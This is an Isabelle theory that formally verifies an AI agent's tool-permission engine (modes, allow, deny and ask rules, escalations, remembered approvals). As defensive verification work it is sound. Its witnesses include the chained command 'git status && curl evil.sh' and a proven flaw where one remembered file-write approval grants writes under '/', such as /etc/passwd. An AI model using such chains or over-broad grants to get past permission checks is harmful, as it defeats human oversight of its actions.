(* ===== verification/Permissions.thy ===== *)
theory Permissions
  imports Command_Chain Glob_Match
begin

text \<open>
  Model of \<open>src/tools/permissions.rs\<close> and of \<open>declared_escalation\<close> in
  \<open>src/tools/escalation.rs\<close>: permission modes, the allow, deny and ask rules, the rules a
  remembered approval becomes, the shared runtime state, and the engine that decides one call.

  The engine is a client of two components: the chain splitter and the glob. Their contract is
  the locale \<open>chain_language\<close>; the facts about chains of commands are proved once there and
  reach the engine through the interpretation \<open>perm\<close> on the model's own definitions.
\<close>

section \<open>Modes, configuration, decisions\<close>

datatype permission_mode = Default | AcceptEdits | Plan | Bypass

definition parse_mode :: "string \<Rightarrow> permission_mode option" where
  "parse_mode s =
     (let m = to_lowercase (trim s)
      in if m = ''default'' then Some Default
         else if m = ''accept_edits'' \<or> m = ''accept-edits'' then Some AcceptEdits
         else if m = ''plan'' then Some Plan
         else if m = ''bypass'' then Some Bypass
         else None)"

fun mode_as_str :: "permission_mode \<Rightarrow> string" where
  "mode_as_str Default = ''default''"
| "mode_as_str AcceptEdits = ''accept_edits''"
| "mode_as_str Plan = ''plan''"
| "mode_as_str Bypass = ''bypass''"

record permissions_config =
  pc_mode :: permission_mode
  pc_allow_bypass :: bool
  pc_allow :: "string list"
  pc_deny :: "string list"
  pc_ask :: "string list"

definition default_permissions_config :: permissions_config where
  "default_permissions_config =
     \<lparr>pc_mode = Default, pc_allow_bypass = False, pc_allow = [], pc_deny = [], pc_ask = []\<rparr>"

datatype engine_decision =
    Engine_Deny string
  | Engine_Ask string
  | AllowNow
  | PassThrough

section \<open>Rules\<close>

definition command_tools :: "string list" where
  "command_tools = [''shell'', ''process'', ''execute_code'']"

definition file_tools :: "string list" where
  "file_tools = [''file_read'', ''file_write'', ''file_edit'', ''apply_patch'']"

definition primary_invocation_arg :: "string \<Rightarrow> json \<Rightarrow> string option" where
  "primary_invocation_arg tool args =
     (if tool \<in> set command_tools then get_str ''command'' args
      else if tool \<in> set file_tools then get_str ''path'' args
      else if tool = ''web_fetch'' then get_str ''url'' args
      else None)"

datatype rule_quantifier = AnySegment | AllSegments

definition rule_is_bare :: "string \<Rightarrow> bool" where
  "rule_is_bare rule \<longleftrightarrow> \<not> str_contains rule '':''"

definition rule_globs :: "string list \<Rightarrow> string \<Rightarrow> string list" where
  "rule_globs rules tool =
     map snd (filter (\<lambda>(name, glob). name = tool)
       (List.map_filter (split_once (CHR 0x3A)) rules))"

definition segment_matches :: "string list \<Rightarrow> string \<Rightarrow> bool" where
  "segment_matches globs segment \<longleftrightarrow> (\<exists>glob \<in> set globs. glob_match glob segment)"

definition rules_match_quantified ::
  "string list \<Rightarrow> string \<Rightarrow> string option \<Rightarrow> rule_quantifier \<Rightarrow> bool" where
  "rules_match_quantified rules tool primary quantifier =
     (if \<exists>rule \<in> set rules. rule_is_bare rule \<and> glob_match rule tool then True
      else case primary of
        None \<Rightarrow> False
      | Some p \<Rightarrow>
          (let globs = rule_globs rules tool
           in if globs = [] then False
              else if tool \<notin> set command_tools then segment_matches globs p
              else case quantifier of
                AnySegment \<Rightarrow> \<exists>seg \<in> set (split_command_chain p). segment_matches globs seg
              | AllSegments \<Rightarrow> \<forall>seg \<in> set (split_command_chain p). segment_matches globs seg))"

definition rules_match :: "string list \<Rightarrow> string \<Rightarrow> string option \<Rightarrow> bool" where
  "rules_match rules tool primary = rules_match_quantified rules tool primary AnySegment"

text \<open>The rules a remembered approval becomes.\<close>

definition remember_rules :: "string \<Rightarrow> json \<Rightarrow> string list" where
  "remember_rules tool args =
     (let primary = primary_invocation_arg tool args
      in if tool \<in> set command_tools then
           (case primary of
              Some arg \<Rightarrow> map (\<lambda>segment. tool @ '':'' @ segment @ star) (split_command_chain arg)
            | None \<Rightarrow> [tool])
         else if tool = ''web_fetch'' then
           (case primary of Some arg \<Rightarrow> [tool @ '':'' @ arg @ star] | None \<Rightarrow> [tool])
         else if tool \<in> {''file_write'', ''file_edit'', ''apply_patch''} then
           (case primary of
              Some arg \<Rightarrow>
                (let dir = (case path_parent arg of Some p \<Rightarrow> p | None \<Rightarrow> arg)
                 in [tool @ '':'' @ dir @ ''/*''])
            | None \<Rightarrow> [tool])
         else [tool])"

section \<open>Runtime state\<close>

record snapshot =
  sn_default_mode :: permission_mode
  sn_allow_bypass :: bool
  sn_allow :: "string list"
  sn_deny :: "string list"
  sn_ask :: "string list"
  sn_per_session :: "(string \<times> permission_mode) list"

definition default_runtime :: snapshot where
  "default_runtime =
     \<lparr>sn_default_mode = Default, sn_allow_bypass = False, sn_allow = [], sn_deny = [],
      sn_ask = [], sn_per_session = []\<rparr>"

definition reload :: "permissions_config \<Rightarrow> snapshot \<Rightarrow> snapshot" where
  "reload config s =
     s\<lparr>sn_default_mode := pc_mode config, sn_allow_bypass := pc_allow_bypass config,
       sn_allow := pc_allow config, sn_deny := pc_deny config, sn_ask := pc_ask config\<rparr>"

definition from_config :: "permissions_config \<Rightarrow> snapshot" where
  "from_config config = reload config default_runtime"

definition effective_mode :: "snapshot \<Rightarrow> string \<Rightarrow> permission_mode" where
  "effective_mode s conversation_id =
     (case map_of (sn_per_session s) conversation_id of
        Some m \<Rightarrow> m | None \<Rightarrow> sn_default_mode s)"

definition set_session_mode :: "string \<Rightarrow> permission_mode option \<Rightarrow> snapshot \<Rightarrow> snapshot" where
  "set_session_mode conversation_id mode s =
     (case mode of
        Some m \<Rightarrow> s\<lparr>sn_per_session := AList.update conversation_id m (sn_per_session s)\<rparr>
      | None \<Rightarrow> s\<lparr>sn_per_session := AList.delete conversation_id (sn_per_session s)\<rparr>)"

definition has_session_override :: "snapshot \<Rightarrow> string \<Rightarrow> bool" where
  "has_session_override s conversation_id \<longleftrightarrow> map_of (sn_per_session s) conversation_id \<noteq> None"

definition append_allow_rule :: "string \<Rightarrow> snapshot \<Rightarrow> bool \<times> snapshot" where
  "append_allow_rule rule s =
     (if rule \<in> set (sn_allow s) then (False, s)
      else (True, s\<lparr>sn_allow := sn_allow s @ [rule]\<rparr>))"

definition config_projection :: "snapshot \<Rightarrow> permissions_config" where
  "config_projection s =
     \<lparr>pc_mode = sn_default_mode s, pc_allow_bypass = sn_allow_bypass s, pc_allow = sn_allow s,
      pc_deny = sn_deny s, pc_ask = sn_ask s\<rparr>"

section \<open>The engine\<close>

record declared_escalation_t =
  de_justification :: string

definition declared_escalation :: "json \<Rightarrow> declared_escalation_t option" where
  "declared_escalation args =
     Option.bind (json_get ''permissions'' args) (\<lambda>block.
       Option.bind (Option.bind (json_get ''require_escalated'' block) as_bool) (\<lambda>requested.
         if \<not> requested then None
         else Some \<lparr>de_justification =
           (case get_str ''justification'' block of
              Some j \<Rightarrow> j | None \<Rightarrow> ''no reason given'')\<rparr>))"

definition plan_refusal :: string where
  "plan_refusal =
     ''plan mode is active - read-only tools only; switch out of plan mode to run this''"

definition engine_mode :: "snapshot \<Rightarrow> string \<Rightarrow> permission_mode" where
  "engine_mode s conversation_id =
     (let mode = effective_mode s conversation_id
      in if mode = Bypass \<and> \<not> sn_allow_bypass s then Default else mode)"

definition evaluate ::
  "snapshot \<Rightarrow> string \<Rightarrow> json \<Rightarrow> string \<Rightarrow> bool \<Rightarrow> string list \<Rightarrow> engine_decision" where
  "evaluate s name args conversation_id read_only categories =
     (let mode = engine_mode s conversation_id;
          primary = primary_invocation_arg name args
      in if rules_match_quantified (sn_deny s) name primary AnySegment then
           Engine_Deny (''denied by a [permissions].deny rule for '' @ [squote] @ name @ [squote])
         else case declared_escalation args of
           Some escalation \<Rightarrow>
             (if mode = Bypass then AllowNow
              else Engine_Ask (''asked to run outside the workspace fence: ''
                               @ de_justification escalation))
         | None \<Rightarrow>
             if rules_match_quantified (sn_ask s) name primary AnySegment then
               Engine_Ask (''matched a [permissions].ask rule for '' @ [squote] @ name @ [squote])
             else if rules_match_quantified (sn_allow s) name primary AllSegments then AllowNow
             else case mode of
               Default \<Rightarrow> PassThrough
             | AcceptEdits \<Rightarrow> if ''write'' \<in> set categories then AllowNow else PassThrough
             | Plan \<Rightarrow> if read_only then PassThrough else Engine_Deny plan_refusal
             | Bypass \<Rightarrow> AllowNow)"

section \<open>The contract of the rule language\<close>

text \<open>What the rules rely on: the splitter always yields a segment, the glob matches a text
  against the text itself and against the text with a star appended.\<close>

locale rule_language =
  fixes split :: "string \<Rightarrow> string list"
    and gmatch :: "string \<Rightarrow> string \<Rightarrow> bool"
  assumes split_nonempty: "split cmd \<noteq> []"
    and own_prefix: "gmatch (s @ star) s"
    and self_match: "gmatch p p"
begin

lemma remembered_segments_cover:
  "\<forall>seg \<in> set (split cmd). \<exists>g \<in> set (map (\<lambda>s. s @ star) (split cmd)). gmatch g seg"
  using own_prefix by auto

lemma all_implies_any:
  "(\<forall>seg \<in> set (split cmd). P seg) \<Longrightarrow> (\<exists>seg \<in> set (split cmd). P seg)"
  using split_nonempty [of cmd] by (metis last_in_set)

end

text \<open>A splitter whose segments of a chain are the segments of its parts.\<close>

locale chain_language = rule_language +
  fixes raw :: "string \<Rightarrow> string list"
    and closed :: "string \<Rightarrow> bool"
    and ops :: "string set"
  assumes split_raw: "split cmd = (if raw cmd = [] then [cmd] else raw cmd)"
    and raw_append: "\<lbrakk>closed a; sep \<in> ops\<rbrakk> \<Longrightarrow> raw (a @ sep @ b) = raw a @ raw b"
begin

lemma chain_exposes_parts:
  assumes "closed a" and "sep \<in> ops"
  shows "set (raw a) \<union> set (raw b) \<subseteq> set (split (a @ sep @ b))"
  using assms by (auto simp: split_raw raw_append)

lemma chain_all_covers_parts:
  assumes "closed a" "sep \<in> ops" "\<forall>seg \<in> set (split (a @ sep @ b)). P seg"
  shows "(\<forall>seg \<in> set (raw a). P seg) \<and> (\<forall>seg \<in> set (raw b). P seg)"
  using chain_exposes_parts [OF assms(1,2), of b] assms(3) by blast

end

interpretation perm: chain_language split_command_chain glob_match chain_segments
  "\<lambda>a. chain_closed a False False" "set chain_operators"
proof unfold_locales
  show "split_command_chain cmd \<noteq> []" for cmd
    by (simp add: split_command_chain_def Let_def)
  show "glob_match (s @ star) s" for s by (rule glob_match_own_prefix)
  show "glob_match p p" for p by (rule glob_match_self)
  show "split_command_chain cmd = (if chain_segments cmd = [] then [cmd] else chain_segments cmd)"
    for cmd by (rule split_command_chain_segments)
  show "chain_segments (a @ sep @ b) = chain_segments a @ chain_segments b"
    if "chain_closed a False False" "sep \<in> set chain_operators" for a sep b
    unfolding chain_segments_def using chain_loop_append [OF that, of b "[]" "[]"] .
qed

section \<open>Facts about rules\<close>

lemma command_tools_no_colon: "tool \<in> set command_tools \<Longrightarrow> CHR 0x3A \<notin> set tool"
  by (auto simp: command_tools_def)

lemma rule_is_bare_iff: "rule_is_bare rule \<longleftrightarrow> CHR 0x3A \<notin> set rule"
  by (auto simp: rule_is_bare_def str_contains_iff in_set_conv_decomp)

lemma rule_globs_iff:
  "CHR 0x3A \<notin> set tool \<Longrightarrow> g \<in> set (rule_globs rules tool) \<longleftrightarrow> tool @ '':'' @ g \<in> set rules"
  by (auto simp: rule_globs_def in_set_map_filter split_once_Some image_iff)

text \<open>The three ways a rule list can match, for a command tool.\<close>

lemma rules_match_command:
  assumes "tool \<in> set command_tools"
  shows "rules_match_quantified rules tool (Some p) q \<longleftrightarrow>
    (\<exists>rule \<in> set rules. rule_is_bare rule \<and> glob_match rule tool) \<or>
    (rule_globs rules tool \<noteq> [] \<and>
     (case q of AnySegment \<Rightarrow> \<exists>seg \<in> set (split_command_chain p). segment_matches (rule_globs rules tool) seg
      | AllSegments \<Rightarrow> \<forall>seg \<in> set (split_command_chain p). segment_matches (rule_globs rules tool) seg))"
  using assms by (cases q) (auto simp: rules_match_quantified_def Let_def)

lemma primary_command [simp]:
  "tool \<in> set command_tools \<Longrightarrow> primary_invocation_arg tool args = get_str ''command'' args"
  by (simp add: primary_invocation_arg_def)

lemma evaluate_deny:
  "rules_match_quantified (sn_deny s) name (primary_invocation_arg name args) AnySegment \<Longrightarrow>
   \<exists>r. evaluate s name args cid ro cats = Engine_Deny r"
  by (simp add: evaluate_def Let_def)

lemma engine_mode_cases:
  "engine_mode s cid = Bypass \<longleftrightarrow> effective_mode s cid = Bypass \<and> sn_allow_bypass s"
  "engine_mode s cid = AcceptEdits \<longleftrightarrow> effective_mode s cid = AcceptEdits"
  "engine_mode s cid = Plan \<longleftrightarrow> effective_mode s cid = Plan"
  by (auto simp: engine_mode_def Let_def)

lemma effective_mode_allow [simp]: "effective_mode (s\<lparr>sn_allow := r\<rparr>) cid = effective_mode s cid"
  by (simp add: effective_mode_def split: option.split)

lemma effective_mode_set_session [simp]:
  "effective_mode (set_session_mode cid (Some m) s) cid' =
     (if cid' = cid then m else effective_mode s cid')"
  by (simp add: effective_mode_def set_session_mode_def split: option.split)

text \<open>Concrete states and calls for the witnesses.\<close>

definition shell_call :: "string \<Rightarrow> json" where
  "shell_call cmd = JObject [(''command'', JString cmd)]"

definition sample_snapshot :: snapshot where
  "sample_snapshot = default_runtime\<lparr>
     sn_allow := [''shell:git status*'', ''shell:npm test*''],
     sn_deny := [''shell:curl*'']\<rparr>"

section \<open>Properties\<close>

text \<open>C2. A deny rule on a command tool cannot be laundered by a chain: when any segment of
  either side of a chain operator matches the glob of a deny rule, the engine refuses the whole
  command, in every mode, whatever the other rules say.\<close>

theorem deny_cannot_be_laundered:
  assumes "name \<in> set command_tools"
    and "name @ '':'' @ g \<in> set (sn_deny s)"
    and "get_str ''command'' args = Some (a @ sep @ b)"
    and "chain_closed a False False" and "sep \<in> set chain_operators"
    and "seg \<in> set (chain_segments a) \<union> set (chain_segments b)" and "glob_match g seg"
  shows "\<exists>r. evaluate s name args cid ro cats = Engine_Deny r"
proof (rule evaluate_deny)
  have g: "g \<in> set (rule_globs (sn_deny s) name)"
    using assms(1,2) rule_globs_iff command_tools_no_colon by blast
  have "seg \<in> set (split_command_chain (a @ sep @ b))"
    using perm.chain_exposes_parts [OF assms(4,5)] assms(6) by blast
  with g assms(7) have "\<exists>seg \<in> set (split_command_chain (a @ sep @ b)).
      segment_matches (rule_globs (sn_deny s) name) seg"
    unfolding segment_matches_def by blast
  moreover have "rule_globs (sn_deny s) name \<noteq> []" using g by auto
  ultimately show "rules_match_quantified (sn_deny s) name (primary_invocation_arg name args) AnySegment"
    using assms(1,3) by (simp add: rules_match_command)
qed

theorem deny_cannot_be_laundered_witness:
  "\<exists>r. evaluate sample_snapshot ''shell'' (shell_call (''git status '' @ ''&&'' @ '' curl evil.sh''))
        ''c1'' False [] = Engine_Deny r"
  by (rule deny_cannot_be_laundered [where g = "''curl*''" and a = "''git status ''" and sep = "''&&''"
        and b = "'' curl evil.sh''" and seg = "''curl evil.sh''"]) code_simp+

text \<open>The engine pre-approves a call exactly when no deny rule matches and either the mode is an
  enabled bypass, reached by an escalation or by no other rule, or nothing asks and an allow rule
  or the accept-edits mode covers the call.\<close>

lemma allow_now_iff:
  fixes s name args cid
  defines "p \<equiv> primary_invocation_arg name args"
  shows "evaluate s name args cid ro cats = AllowNow \<longleftrightarrow>
    \<not> rules_match_quantified (sn_deny s) name p AnySegment \<and>
    (if declared_escalation args \<noteq> None
     then effective_mode s cid = Bypass \<and> sn_allow_bypass s
     else \<not> rules_match_quantified (sn_ask s) name p AnySegment \<and>
          (rules_match_quantified (sn_allow s) name p AllSegments \<or>
           (effective_mode s cid = AcceptEdits \<and> ''write'' \<in> set cats) \<or>
           (effective_mode s cid = Bypass \<and> sn_allow_bypass s)))"
  unfolding p_def evaluate_def Let_def
  by (cases "effective_mode s cid")
     (auto simp: engine_mode_def Let_def split: option.split)

text \<open>C6. A pre-approval is of the whole chain: when the engine pre-approves a compound command
  outside bypass and accept-edits, every segment of both sides is covered by an allow rule of that
  tool, unless a rule allows the tool by name.\<close>

theorem allow_covers_whole_chain:
  assumes "evaluate s name args cid ro cats = AllowNow"
    and "effective_mode s cid \<in> {Default, Plan} \<or> (effective_mode s cid = Bypass \<and> \<not> sn_allow_bypass s)"
    and "name \<in> set command_tools"
    and "get_str ''command'' args = Some (a @ sep @ b)"
    and "chain_closed a False False" and "sep \<in> set chain_operators"
    and "\<not> (\<exists>rule \<in> set (sn_allow s). rule_is_bare rule \<and> glob_match rule name)"
    and "seg \<in> set (chain_segments a) \<union> set (chain_segments b)"
  shows "\<exists>g. name @ '':'' @ g \<in> set (sn_allow s) \<and> glob_match g seg"
proof -
  have "rules_match_quantified (sn_allow s) name (Some (a @ sep @ b)) AllSegments"
    using assms(1-4) by (auto simp: allow_now_iff split: if_splits)
  then have "\<forall>seg \<in> set (split_command_chain (a @ sep @ b)).
      segment_matches (rule_globs (sn_allow s) name) seg"
    using assms(3,7) by (auto simp: rules_match_command)
  then have "segment_matches (rule_globs (sn_allow s) name) seg"
    using perm.chain_all_covers_parts [OF assms(5,6)] assms(8) by blast
  then obtain g where "g \<in> set (rule_globs (sn_allow s) name)" and "glob_match g seg"
    unfolding segment_matches_def by blast
  then show ?thesis
    using rule_globs_iff command_tools_no_colon assms(3) by blast
qed

theorem allow_covers_whole_chain_witness:
  "\<exists>g. ''shell'' @ '':'' @ g \<in> set (sn_allow sample_snapshot) \<and> glob_match g ''npm test''"
  by (rule allow_covers_whole_chain [where s = sample_snapshot and cid = "''c1''" and ro = False
        and cats = "[]" and a = "''git status''" and sep = "'';''" and b = "'' npm test''"
        and args = "shell_call (''git status'' @ '';'' @ '' npm test'')"]) code_simp+

text \<open>C9. No allow rule silences a declared escalation: a call that asks to leave the workspace
  fence is refused or put to a human unless bypass is both selected and enabled, whatever the allow
  list holds.\<close>

theorem escalation_never_silenced:
  assumes "declared_escalation args = Some e"
    and "effective_mode s cid \<noteq> Bypass \<or> \<not> sn_allow_bypass s"
  shows "\<exists>r. evaluate (s\<lparr>sn_allow := rules\<rparr>) name args cid ro cats \<in> {Engine_Deny r, Engine_Ask r}"
  using assms by (auto simp: evaluate_def Let_def engine_mode_def)

theorem escalation_never_silenced_witness:
  "\<exists>r. evaluate (sample_snapshot\<lparr>sn_allow := [''shell'']\<rparr>) ''shell''
      (JObject [(''permissions'', JObject [(''require_escalated'', JBool True)])]) ''c1'' False []
      \<in> {Engine_Deny r, Engine_Ask r}"
  by (rule escalation_never_silenced [where e = "\<lparr>de_justification = ''no reason given''\<rparr>"])
     code_simp+

text \<open>Plan mode runs nothing that is not read-only on its own authority: with no allow rule
  matching, the engine refuses the call or puts it to a human.\<close>

theorem plan_mode_refuses_writes:
  assumes "effective_mode s cid = Plan" and "\<not> read_only"
    and "\<not> rules_match_quantified (sn_allow s) name (primary_invocation_arg name args) AllSegments"
  shows "\<exists>r. evaluate s name args cid read_only cats \<in> {Engine_Deny r, Engine_Ask r}"
  using assms by (auto simp: evaluate_def Let_def engine_mode_def split: option.split)

theorem plan_mode_refuses_writes_witness:
  "\<exists>r. evaluate (set_session_mode ''c1'' (Some Plan) sample_snapshot) ''shell'' (shell_call ''make'')
      ''c1'' False [] \<in> {Engine_Deny r, Engine_Ask r}"
  by (rule plan_mode_refuses_writes) code_simp+

text \<open>An allow rule defeats plan mode: whenever one covers a call that no deny and no ask rule
  names and that asks for no escalation, the engine pre-approves it in plan mode although the tool is
  not read-only.\<close>

theorem plan_mode_yields_to_allow_rule:
  assumes "rules_match_quantified (sn_allow s) name (primary_invocation_arg name args) AllSegments"
    and "\<not> rules_match_quantified (sn_deny s) name (primary_invocation_arg name args) AnySegment"
    and "\<not> rules_match_quantified (sn_ask s) name (primary_invocation_arg name args) AnySegment"
    and "declared_escalation args = None"
  shows "evaluate (set_session_mode cid (Some Plan) s) name args cid False cats = AllowNow"
  using assms by (simp add: allow_now_iff set_session_mode_def)

theorem plan_mode_yields_to_allow_rule_witness:
  "evaluate (set_session_mode ''c1'' (Some Plan) sample_snapshot) ''shell''
     (shell_call ''npm test'') ''c1'' False [] = AllowNow"
  by (rule plan_mode_yields_to_allow_rule) code_simp+

subsection \<open>Remembered approvals\<close>

lemma rules_match_app:
  "rules_match_quantified rs tool p AllSegments \<Longrightarrow> set rs \<subseteq> set rs' \<Longrightarrow>
   rules_match_quantified rs' tool p AllSegments"
proof -
  assume m: "rules_match_quantified rs tool p AllSegments" and sub: "set rs \<subseteq> set rs'"
  have globs: "set (rule_globs rs tool) \<subseteq> set (rule_globs rs' tool)"
    using sub by (auto simp: rule_globs_def in_set_map_filter image_iff)
  then have ne: "rule_globs rs tool \<noteq> [] \<Longrightarrow> rule_globs rs' tool \<noteq> []" by auto
  have seg: "segment_matches (rule_globs rs tool) x \<Longrightarrow> segment_matches (rule_globs rs' tool) x" for x
    using globs by (auto simp: segment_matches_def)
  show ?thesis
    using m sub ne seg
    by (auto simp: rules_match_quantified_def Let_def split: option.splits if_splits)
qed

lemma remember_rules_match:
  assumes "tool \<in> set command_tools \<or> tool = ''web_fetch''"
    and "primary_invocation_arg tool args = Some arg"
  shows "rules_match_quantified (remember_rules tool args) tool (Some arg) AllSegments"
proof -
  have colon: "CHR 0x3A \<notin> set tool"
    using assms(1) command_tools_no_colon by auto
  show ?thesis
  proof (cases "tool \<in> set command_tools")
    case True
    let ?segs = "split_command_chain arg"
    have "set (map (\<lambda>s. s @ star) ?segs) \<subseteq> set (rule_globs (remember_rules tool args) tool)"
      using True assms(2) by (auto simp: rule_globs_iff [OF colon] remember_rules_def)
    then have "\<forall>seg \<in> set ?segs. segment_matches (rule_globs (remember_rules tool args) tool) seg"
      using perm.remembered_segments_cover [of arg] unfolding segment_matches_def by blast
    moreover from this have "rule_globs (remember_rules tool args) tool \<noteq> []"
      using perm.all_implies_any [of arg] by (fastforce simp: segment_matches_def)
    ultimately show ?thesis using True by (simp add: rules_match_command)
  next
    case False
    then have "tool @ '':'' @ arg @ star \<in> set (remember_rules tool args)"
      using assms by (auto simp: remember_rules_def)
    then have "arg @ star \<in> set (rule_globs (remember_rules tool args) tool)"
      using rule_globs_iff [OF colon] by blast
    then have "segment_matches (rule_globs (remember_rules tool args) tool) arg"
      using perm.own_prefix unfolding segment_matches_def by blast
    with False show ?thesis
      by (auto simp: rules_match_quantified_def Let_def segment_matches_def)
  qed
qed

text \<open>\<open>remember_allow_rules\<close> of \<open>gateway/ws/admin_ws/approvals.rs\<close>: the config's allow
  list with the new rules pushed, the rules that were new, and the runtime, reloaded when something
  was new and the config could be written (\<open>persisted\<close>).\<close>

fun push_new_rules :: "string list \<Rightarrow> string list \<Rightarrow> string list \<Rightarrow> string list \<times> string list" where
  "push_new_rules [] allow newly = (allow, newly)"
| "push_new_rules (rule # rules) allow newly =
     (if rule \<in> set allow then push_new_rules rules allow newly
      else push_new_rules rules (allow @ [rule]) (newly @ [rule]))"

definition remember_allow_rules ::
  "bool \<Rightarrow> string list \<Rightarrow> permissions_config \<Rightarrow> snapshot
    \<Rightarrow> (string + string list) \<times> permissions_config \<times> snapshot" where
  "remember_allow_rules persisted rules config s =
     (let (allow, newly) = push_new_rules rules (pc_allow config) [];
          config' = config\<lparr>pc_allow := allow\<rparr>
      in if newly = [] then (Inr newly, config', s)
         else if \<not> persisted then (Inl ''persist failed'', config', s)
         else (Inr newly, config', reload config' s))"

lemma push_new_rules_set:
  "set (fst (push_new_rules rules allow newly)) = set allow \<union> set rules"
  by (induction rules allow newly rule: push_new_rules.induct) auto

lemma push_new_rules_grows:
  "\<exists>xs. fst (push_new_rules rules allow newly) = allow @ xs \<and>
        snd (push_new_rules rules allow newly) = newly @ xs"
  by (induction rules allow newly rule: push_new_rules.induct) auto

lemma push_new_rules_distinct:
  "distinct allow \<Longrightarrow> distinct (fst (push_new_rules rules allow newly))"
  by (induction rules allow newly rule: push_new_rules.induct) auto

text \<open>A rule whose config write failed is lost: the rule is in the gateway's copy of the config
  but not in the engine, and every later attempt to remember it finds it there, reports success and
  leaves the engine as it was.\<close>

theorem failed_write_loses_rule:
  assumes "remember_allow_rules False rules config s = (Inl e, config', s')"
  shows "s' = s \<and> remember_allow_rules persisted rules config' s' = (Inr [], config', s)"
proof -
  obtain allow newly where push: "push_new_rules rules (pc_allow config) [] = (allow, newly)"
    by fastforce
  have "set rules \<subseteq> set allow"
    using push push_new_rules_set [of rules "pc_allow config" "[]"] by auto
  moreover have "set rs \<subseteq> set al \<Longrightarrow> push_new_rules rs al n = (al, n)" for rs al n
    by (induction rs al n rule: push_new_rules.induct) auto
  ultimately have again: "push_new_rules rules allow [] = (allow, [])" by blast
  from assms push have "s' = s" "config' = config\<lparr>pc_allow := allow\<rparr>"
    by (auto simp: remember_allow_rules_def Let_def split: if_splits)
  then show ?thesis using again by (simp add: remember_allow_rules_def)
qed

theorem failed_write_loses_rule_witness:
  "sample_snapshot = sample_snapshot \<and>
   remember_allow_rules True [''shell:make*''] (config_projection (sample_snapshot\<lparr>sn_allow :=
       sn_allow sample_snapshot @ [''shell:make*'']\<rparr>)) sample_snapshot
     = (Inr [], config_projection (sample_snapshot\<lparr>sn_allow := sn_allow sample_snapshot @ [''shell:make*'']\<rparr>),
        sample_snapshot)"
  by (rule failed_write_loses_rule [where config = "config_projection sample_snapshot"
        and e = "''persist failed''"]) code_simp

text \<open>An approval that is remembered is not asked again: once the rules of an approved command
  or fetch are stored and the config is written, the engine pre-approves the same call in every
  conversation and mode, unless a deny or ask rule names it or it asks for an escalation.\<close>

lemma remembered_rules_allow:
  assumes "tool \<in> set command_tools \<or> tool = ''web_fetch''"
    and "primary_invocation_arg tool args = Some arg"
    and "config_projection s = config"
    and "remember_allow_rules True (remember_rules tool args) config s = (res, config', s')"
    and "\<not> rules_match (sn_deny s) tool (Some arg)"
    and "\<not> rules_match (sn_ask s) tool (Some arg)"
    and "declared_escalation args = None"
  shows "evaluate s' tool args cid ro cats = AllowNow"
proof -
  let ?rules = "remember_rules tool args"
  obtain allow newly where push: "push_new_rules ?rules (pc_allow config) [] = (allow, newly)"
    by fastforce
  have cfg: "pc_allow config = sn_allow s" and re: "reload (config\<lparr>pc_allow := allow\<rparr>) s = s\<lparr>sn_allow := allow\<rparr>"
    unfolding assms(3) [symmetric] config_projection_def reload_def by simp_all
  have allow: "set allow = set (sn_allow s) \<union> set ?rules"
    using push push_new_rules_set [of ?rules "pc_allow config" "[]"] cfg by simp
  have same: "newly = [] \<Longrightarrow> allow = sn_allow s"
    using push push_new_rules_grows [of ?rules "pc_allow config" "[]"] cfg by auto
  have s': "s' = s\<lparr>sn_allow := allow\<rparr>"
  proof (cases "newly = []")
    case True
    then show ?thesis using assms(4) push same by (simp add: remember_allow_rules_def)
  next
    case False
    then show ?thesis using assms(4) push re by (simp add: remember_allow_rules_def)
  qed
  have "rules_match_quantified allow tool (Some arg) AllSegments"
    using rules_match_app [OF remember_rules_match [OF assms(1,2)]] allow by blast
  then show ?thesis
    using assms(2,5-7) s' by (simp add: allow_now_iff rules_match_def)
qed

text \<open>Remembering the approval of a write to a bare file name grants every absolute path: the
  parent of a relative name is the empty path, so the stored rule is \<open>/*\<close>, which covers
  each absolute path and not the approved file.\<close>

theorem remembered_bare_file_grants_root:
  assumes "tool \<in> {''file_write'', ''file_edit'', ''apply_patch''}"
    and "get_str ''path'' args = Some file"
    and "CHR 0x2F \<notin> set file" and "file \<noteq> []" and "file \<noteq> ''.''"
  shows "remember_rules tool args = [tool @ '':/*''] \<and>
    rules_match_quantified (remember_rules tool args) tool (Some (CHR 0x2F # p)) AllSegments \<and>
    \<not> rules_match_quantified (remember_rules tool args) tool (Some file) AllSegments"
proof (intro conjI)
  have split: "split_char (CHR 0x2F) file = [file]"
    using assms(3) by (rule split_char_absent)
  have "len_before_body file = 0"
    using assms(3-5) by (auto simp: len_before_body_def has_root_def include_cur_dir_def starts_with_iff)
  then have parent: "path_parent file = Some []"
    using split assms(4,5)
    by (simp add: path_parent_def Let_def trim_back_def skip_comp_def join_with_def)
  have prim: "primary_invocation_arg tool args = Some file"
    using assms(1,2) by (auto simp: primary_invocation_arg_def command_tools_def file_tools_def)
  show rules: "remember_rules tool args = [tool @ '':/*'']"
    using assms(1) prim parent by (auto simp: remember_rules_def command_tools_def Let_def)
  have glob: "glob_match ''/*'' t \<longleftrightarrow> starts_with t ''/''" for t
    by (simp add: glob_match_def strip_prefix_def strip_suffix_def starts_with_def ends_with_def)
  have tool: "tool \<notin> set command_tools" "CHR 0x3A \<notin> set tool"
    using assms(1) by (auto simp: command_tools_def)
  have globs: "rule_globs [tool @ '':/*''] tool = [''/*'']"
    using tool(2) split_once_Some [of "CHR 0x3A" "tool @ '':/*''" tool "''/*''"]
    by (simp add: rule_globs_def)
  have bare: "\<not> rule_is_bare (tool @ '':/*'')" by (simp add: rule_is_bare_iff)
  show "rules_match_quantified (remember_rules tool args) tool (Some (CHR 0x2F # p)) AllSegments"
    unfolding rules using tool(1) globs bare
    by (simp add: rules_match_quantified_def segment_matches_def glob starts_with_def)
  show "\<not> rules_match_quantified (remember_rules tool args) tool (Some file) AllSegments"
    unfolding rules using tool(1) globs bare assms(3)
    by (auto simp: rules_match_quantified_def segment_matches_def glob starts_with_iff)
qed

theorem remembered_bare_file_grants_root_witness:
  "remember_rules ''file_write'' (JObject [(''path'', JString ''notes.txt'')])
     = [''file_write'' @ '':/*''] \<and>
   rules_match_quantified (remember_rules ''file_write'' (JObject [(''path'', JString ''notes.txt'')]))
     ''file_write'' (Some (CHR 0x2F # ''etc/passwd'')) AllSegments \<and>
   \<not> rules_match_quantified (remember_rules ''file_write'' (JObject [(''path'', JString ''notes.txt'')]))
     ''file_write'' (Some ''notes.txt'') AllSegments"
  by (rule remembered_bare_file_grants_root) code_simp+

text \<open>The wire form of a mode round-trips through the parser, with any white space around it.\<close>

theorem mode_round_trip:
  assumes "\<forall>c \<in> set (before @ after). is_whitespace c"
  shows "parse_mode (before @ mode_as_str m @ after) = Some m"
proof -
